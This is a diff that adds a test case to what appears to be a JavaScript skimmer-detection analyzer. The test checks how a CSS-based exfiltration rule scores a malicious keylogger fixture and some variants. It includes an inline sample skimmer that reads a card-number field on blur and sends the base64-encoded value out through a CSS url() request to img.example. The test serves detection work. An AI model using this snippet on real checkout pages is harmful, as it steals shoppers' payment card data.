@@ -135,6 +135,23 @@ describe('sends the first look cannot name', () => {
     expect(namesCardField(`${'a,'.repeat(150)}cardnumber/readme.md`)).toBe(false)
   })
 
+  it('CSS that loads a URL for what is typed into card fields is a send the browser makes', () => {
+    const source = readFileSync('fixtures/samples/malicious/css-prefix-sheet-keylogger.js', 'utf8')
+    const points = (code: string): number | undefined =>
+      analyzeScript(code).findings.find((f) => f.rule === 'css-exfil')?.points
+    expect(points(source)).toBe(70)
+    // without copying typed values into the value attribute, only a framework would make it work
+    expect(points(source.replace('el.defaultValue = el.value', 'el.title = el.name'))).toBe(45)
+    // selectors on the value of fields that are no card fields are a form's styling
+    expect(points(source.replace(/cc-number|cc-csc/g, 'postal-code'))).toBeUndefined()
+    // a url() that carries the typed value itself
+    const carried = `var f = document.querySelector('#cc_number'), st = document.createElement('style')
+      f.addEventListener('blur', function () {
+        st.textContent = 'body{background:url(https://img.example/p.gif?d=' + btoa(f.value) + ')}'
+        document.head.appendChild(st) })`
+    expect(points(carried)).toBe(60)
+  })
+
   it('names joined by a one-line wrapper of + are names', () => {
     const source = `var j = function (a, b) { return a + b }
       document[j('addEvent', 'Listener')](j('sub', 'mit'), function () {
